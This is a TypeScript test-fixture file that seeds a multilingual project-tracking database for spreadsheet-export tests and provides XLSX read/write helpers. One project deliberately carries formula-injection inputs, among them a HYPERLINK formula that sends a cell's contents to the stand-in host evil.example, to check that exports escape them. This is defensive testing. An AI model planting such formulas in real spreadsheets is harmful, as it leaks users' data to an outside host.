import ExcelJS from "exceljs";
import type { Executor } from "@/db/client";
import * as s from "@/db/schema";
import { createGroup, createMember, createProject, createUser } from "../support/factories";

/** A working group whose projects use every column of the spreadsheet, in three languages. */
export async function buildSpreadsheetWorld(db: Executor) {
  const group = await createGroup(db);
  const otherGroup = await createGroup(db);
  const area = async (position: number, nb: string, ru: string, en: string, archived = false) => {
    const [row] = await db
      .insert(s.cooperationAreas)
      .values({
        groupId: group.id,
        position,
        nameNb: nb,
        nameRu: ru,
        nameEn: en,
        archivedAt: archived ? new Date("2019-01-01") : null,
      })
      .returning();
    if (!row) throw new Error("area not created");
    return row;
  };
  const sea = await area(1, "Maritim teknologi", "Морские технологии", "Maritime technology");
  const fish = await area(2, "Akvakultur", "Аквакультура", "Aquaculture");
  const retired = await area(3, "Gammelt område", "Старое направление", "Former area", true);
  const coordinatorNo = await createMember(db, group.id, "coordinator", {
    delegation: "NO",
    locale: "nb",
  });
  const coordinatorRu = await createMember(db, group.id, "coordinator", {
    delegation: "RU",
    locale: "ru",
  });
  const delegateNo = await createMember(db, group.id, "delegate", { delegation: "NO" });
  const delegateRu = await createMember(db, group.id, "delegate", { delegation: "RU" });
  const observer = await createMember(db, group.id, "observer");
  const outsider = await createMember(db, otherGroup.id, "coordinator");
  const admin = await createUser(db, { isAdmin: true });

  const p1 = await createProject(db, group.id, sea.id, {
    code: "2018-01",
    titleNb: "Samarbeid mellom Vardø og Murmansk trafikksentraler – æøå",
    titleRu: "Сотрудничество центров управления движением судов в Вардё и Мурманске",
    titleEn: "Cooperation between the Vardø and Murmansk vessel traffic services",
    summaryNb: 'Første linje\r\nAndre linje med «anførselstegn», komma og "sitat".',
    summaryRu: "Обмен данными о движении судов.",
    status: "in_progress",
    health: "on_track",
    progress: 40,
    plannedStart: "2018-04-01",
    plannedEnd: "2019-12-31",
    leadOrgNo: "Kystverket",
    leadOrgRu: "ФГБУ «Морская спасательная служба»",
    contactNoId: delegateNo.id,
    contactRuId: delegateRu.id,
    partners: ["Norges sjømatråd", "Мурманский рыбный союз"],
    places: ["Vardø", "Мурманск"],
    fundingAmount: "1500000.50",
    fundingCurrency: "NOK",
    fundingSource: "Barentssekretariatet",
    lastUpdateAt: new Date("2019-03-02T10:00:00Z"),
  });
  const p2 = await createProject(db, group.id, fish.id, {
    code: "2018-02",
    titleNb: "Havbruk i Tromsø og Bodø",
    titleRu: null,
    titleEn: null,
    status: "planned",
    progress: 0,
  });
  const p3 = await createProject(db, group.id, sea.id, {
    code: "2018-03",
    titleNb: null,
    titleRu: null,
    titleEn: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    summaryEn: "-1+1 starts like a formula",
    status: "completed",
    progress: 100,
    leadOrgNo: "@kystverket",
    // After a separator: a formula for a program that splits the file on ";" (issue 18.3).
    fundingSource: "Fond;=SUM(1,2);'+x,-3",
  });
  const p4 = await createProject(db, group.id, fish.id, {
    code: "2018-04",
    titleEn: "Suspended fish farm study",
    status: "suspended",
    progress: 10,
    contactNoId: coordinatorNo.id,
    areaId: retired.id,
  });
  await db.insert(s.statusUpdates).values([
    {
      projectId: p1.id,
      groupId: group.id,
      authorId: delegateNo.id,
      authorDelegation: "NO",
      createdAt: new Date("2018-10-01T08:00:00Z"),
      status: "in_progress",
      health: "at_risk",
      progress: 20,
      previousStatus: "planned",
      previousHealth: null,
      previousProgress: 0,
      note: "Eldre merknad",
      noteLocale: "nb",
    },
    {
      projectId: p1.id,
      groupId: group.id,
      authorId: delegateRu.id,
      authorDelegation: "RU",
      createdAt: new Date("2019-03-02T22:30:00Z"),
      status: "in_progress",
      health: "on_track",
      progress: 40,
      previousStatus: "in_progress",
      previousHealth: "at_risk",
      previousProgress: 20,
      note: "Учения проведены в Киркенесе",
      noteLocale: "ru",
    },
  ]);
  return {
    group,
    otherGroup,
    sea,
    fish,
    retired,
    coordinatorNo,
    coordinatorRu,
    delegateNo,
    delegateRu,
    observer,
    outsider,
    admin,
    projects: { p1, p2, p3, p4 },
  };
}

export type SpreadsheetWorld = Awaited<ReturnType<typeof buildSpreadsheetWorld>>;

/** The first worksheet of an XLSX file as ExcelJS reads it. */
export async function readXlsx(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error("no worksheet");
  return { workbook, sheet };
}

/** An XLSX file from rows of values (the first row holds the headings). */
export async function xlsxOf(rows: ExcelJS.CellValue[][]): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet("Ark 1");
  for (const row of rows) sheet.addRow(row);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}
